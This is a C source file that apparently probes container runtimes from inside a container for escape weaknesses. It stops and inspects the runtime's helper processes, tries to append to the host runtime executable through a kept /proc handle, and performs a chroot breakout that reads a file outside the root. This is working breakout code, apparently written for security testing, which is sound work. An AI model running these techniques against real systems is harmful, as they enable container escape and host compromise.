/* SPDX-License-Identifier: Apache-2.0
 *
 * A hostile program in a container: it waits for processes that others bring in (exec), stops each at once, looks
 * into it, and lets it go on for some microseconds, again and again.  Whatever it can see or do is a line on its
 * standard output:
 *
 *   seen                     a process was stopped while it still was the runtime's helper (by its name)
 *   exe TEXT                 the link /proc/PID/exe can be read, and leads to something else than ours
 *   directory FD TEXT        a descriptor of a directory: not of our procfs, and not our root
 *   root                     its root is another than ours
 *   wrote exe                its executable could be opened for writing, and something was appended
 *
 * `snoop escape FILE` leaves its root directory, if it may chroot(2), as far as that can be done, and prints FILE.
 *
 * `snoop finish` does the last part of overwriting for the handle that loader.c has left.
 *
 * usage: snoop look | overwrite | escape FILE | finish
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char target[4096];

static const char *link_of(const char *format, int pid, int fd)
{
    char path[128];
    snprintf(path, sizeof path, format, pid, fd);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    return length < 0 ? NULL : target;
}

/* By the names of the runtimes that this is run against.  Before Linux 6.14 the name of what was executed by descriptor
 * is that number. */
static int is_helper(int pid)
{
    char path[64], name[32] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t length = read(fd, name, sizeof name - 1);
    close(fd);
    static const char *const names[] = {"pyrunc-init", "memfd:", "runc", "crun", "exe"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        if (length > 0 && strncmp(name, names[i], strlen(names[i])) == 0)
            return 1;
    return name[0] >= '0' && name[0] <= '9';
}

static void look(int pid)
{
    char path[64];
    struct stat ours, theirs, proc = {0};
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    if (stat("/", &ours) == 0 && stat(path, &theirs) == 0 &&
        (ours.st_ino != theirs.st_ino || ours.st_dev != theirs.st_dev))
        puts("root");
    if (link_of("/proc/%d/exe", pid, 0) && !strstr(target, "/bin/busybox"))
        printf("exe %s\n", target);
    stat("/proc", &proc);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *fds = opendir(path);
    for (struct dirent *entry; fds && (entry = readdir(fds));) {
        char name[400];
        snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
        if (entry->d_name[0] != '.' && stat(name, &theirs) == 0 && S_ISDIR(theirs.st_mode) &&
            theirs.st_dev != proc.st_dev && (theirs.st_dev != ours.st_dev || theirs.st_ino != ours.st_ino)) {
            link_of("/proc/%d/fd/%d", pid, atoi(entry->d_name));
            printf("directory %s %s\n", entry->d_name, target);
        }
    }
    if (fds)
        closedir(fds);
}

/* A file that is being executed cannot be written to (ETXTBSY): so a handle is kept beyond the process's end. */
static void write_to(int handle, int milliseconds)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    for (int i = 0; i < milliseconds; i++) {
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0) {
            if (write(fd, "x", 1) == 1)
                puts("wrote exe");
            close(fd);
            break;
        }
        if (errno != ETXTBSY)
            break;
        usleep(1000);
    }
    close(handle);
}

static void overwrite(int pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int handle = open(path, O_PATH | O_CLOEXEC);
    if (handle < 0)
        return;
    kill(pid, SIGKILL);
    write_to(handle, 500);
}

/* chroot(2) does not change the working directory: from outside of the new root ".." has no end but the topmost. */
static int escape(const char *file)
{
    mkdir("x", 0700);
    if (chroot("x") < 0)
        return 1;
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0)
            return 1;
    if (chroot(".") < 0)
        return 1;
    char text[4096];
    int fd = open(file, O_RDONLY);
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text);
    return length < 0 || write(1, text, (size_t)length) != length;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "escape") == 0)
        return escape(argv[2]);
    if (argc == 2 && strcmp(argv[1], "finish") == 0) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        write_to(100, 1500);
        puts("finished");
        return 0;
    }
    static char known[1 << 22];
    int overwriting = argc > 1 && strcmp(argv[1], "overwrite") == 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    known[getpid()] = 1;
    puts("ready");
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || known[pid])
                continue;
            known[pid] = 1;
            if (kill(pid, SIGSTOP) < 0)
                continue;
            int helper = is_helper(pid);
            if (helper)
                puts("seen");
            if (overwriting)
                overwrite(pid);
            /* Step by step through all that it does until it is the user's program. */
            for (int i = 0; helper && !overwriting && i < 300 && is_helper(pid); i++) {
                look(pid);
                kill(pid, SIGCONT);
                usleep(10);
                kill(pid, SIGSTOP);
            }
            kill(pid, SIGCONT);
        }
        if (proc)
            closedir(proc);
    }
}
